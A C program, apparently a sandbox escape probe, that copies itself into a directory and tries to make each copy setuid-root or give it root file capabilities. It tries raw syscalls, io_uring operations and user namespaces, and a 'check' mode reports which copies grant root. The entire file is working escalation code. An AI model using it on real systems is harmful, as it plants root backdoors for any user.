/*
 * Tries to leave a program on the host that is root for anybody: it copies itself into a directory and gives the copies file
 * capabilities or set-id bits in every way that the kernel has, in a new user namespace where one can be had.
 * `plant DIRECTORY` prints one line a way: `ok` or an error. `check` is for the copies, executed on the host by another user: it
 * prints `root` where that worked.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define SETXATTRAT 463

/* VFS_CAP_REVISION_2, effective: cap_dac_override, cap_setgid, cap_setuid. */
static const unsigned CAPABILITY[5] = {0x02000001, 0xc2, 0, 0, 0};
static const char NAME[] = "security.capability";
static const char *directory;

static void say(const char *way, long result) { printf("%s %s\n", way, result >= 0 ? "ok" : strerrorname_np(errno)), fflush(stdout); }

static const char *copy(const char *name) {
  static char path[4096], bytes[1 << 16];
  snprintf(path, sizeof path, "%s/%s", directory, name);
  int from = open("/proc/self/exe", O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  for (ssize_t got; (got = read(from, bytes, sizeof bytes)) > 0;) if (write(to, bytes, (size_t)got) != got) _exit(9);
  close(from), close(to);
  return path;
}

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  int done = fd < 0 || write(fd, text, strlen(text)) < 0 ? -1 : 0;
  close(fd);
  return done;
}

static int become_capable(void) {
  char map[64], group[64];
  snprintf(map, sizeof map, "0 %d 1", geteuid()), snprintf(group, sizeof group, "0 %d 1", getegid());
  if (unshare(CLONE_NEWUSER) < 0) return -1;
  put("/proc/self/setgroups", "deny");
  return put("/proc/self/uid_map", map) < 0 || put("/proc/self/gid_map", group) < 0 ? -1 : 0;
}

struct xattr_args { unsigned long long value; unsigned size, flags; };

static void by_calls(const char *who) {
  char way[64];
  const char *path;
#define TRY(name, call) path = copy((snprintf(way, sizeof way, "%s-%s", who, name), way)), say(way, call)
  TRY("setxattr", syscall(SYS_setxattr, path, NAME, CAPABILITY, sizeof CAPABILITY, 0));
  TRY("lsetxattr", syscall(SYS_lsetxattr, path, NAME, CAPABILITY, sizeof CAPABILITY, 0));
  int fd;
  TRY("fsetxattr", (fd = open(path, O_RDONLY), syscall(SYS_fsetxattr, fd, NAME, CAPABILITY, sizeof CAPABILITY, 0)));
  struct xattr_args args = {(unsigned long)CAPABILITY, sizeof CAPABILITY, 0};
  TRY("setxattrat", syscall(SETXATTRAT, AT_FDCWD, path, 0, NAME, &args, sizeof args));
  TRY("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, path, 06755));
  TRY("fchmodat-high", syscall(SYS_fchmodat, AT_FDCWD, path, (1ull << 32) | 06755));
  TRY("fchmodat2", syscall(452, AT_FDCWD, path, (1ull << 32) | 06755, 0));
}

/* ---- io_uring: no system call of the operation itself ---- */
static int ring_do(struct io_uring_sqe wanted) {
  struct io_uring_params params = {0};
  int ring = (int)syscall(SYS_io_uring_setup, 4, &params);
  if (ring < 0) return -1;
  size_t size = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
  if (params.sq_off.array + params.sq_entries * 4 > size) size = params.sq_off.array + params.sq_entries * 4;
  char *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  struct io_uring_sqe *entries = mmap(NULL, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (at == MAP_FAILED || entries == MAP_FAILED) return -1;
  entries[0] = wanted;
  *(unsigned *)(at + params.sq_off.array) = 0;
  __atomic_store_n((unsigned *)(at + params.sq_off.tail), 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -1;
  struct io_uring_cqe *done = (struct io_uring_cqe *)(at + params.cq_off.cqes);
  int result = done->res;
  close(ring);
  return result < 0 ? (errno = -result, -1) : result;
}

static void by_ring(const char *who) {
  char way[64], file[4096];
  snprintf(way, sizeof way, "%s-ring-fsetxattr", who);
  const char *path = copy(way);
  struct io_uring_sqe sqe = {.opcode = 41 /* IORING_OP_FSETXATTR */, .fd = open(path, O_RDONLY), .addr = (unsigned long)NAME, .len = sizeof CAPABILITY};
  sqe.off = (unsigned long)CAPABILITY;
  say(way, ring_do(sqe));
  snprintf(way, sizeof way, "%s-ring-openat", who);
  snprintf(file, sizeof file, "%s/%s", directory, way);
  struct io_uring_sqe make = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (unsigned long)file, .len = 06755};
  make.open_flags = O_CREAT | O_WRONLY;
  say(way, ring_do(make));
}

static void in_child(void (*attack)(const char *), const char *who) {
  fflush(stdout);
  pid_t child = fork();
  if (child == 0) {
    if (strcmp(who, "namespace") == 0 && become_capable() < 0) say(who, -1), _exit(0);
    attack(who);
    _exit(0);
  }
  waitpid(child, NULL, 0);
}
int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "check") == 0) return puts(setresuid(0, 0, 0) == 0 || geteuid() == 0 ? "root" : "nobody"), 0;
  if (argc != 3 || strcmp(argv[1], "plant") != 0) return 2;
  directory = argv[2];
  in_child(by_calls, "plain");
  in_child(by_ring, "plain");
  in_child(by_calls, "namespace");
  in_child(by_ring, "namespace");
  return 0;
}
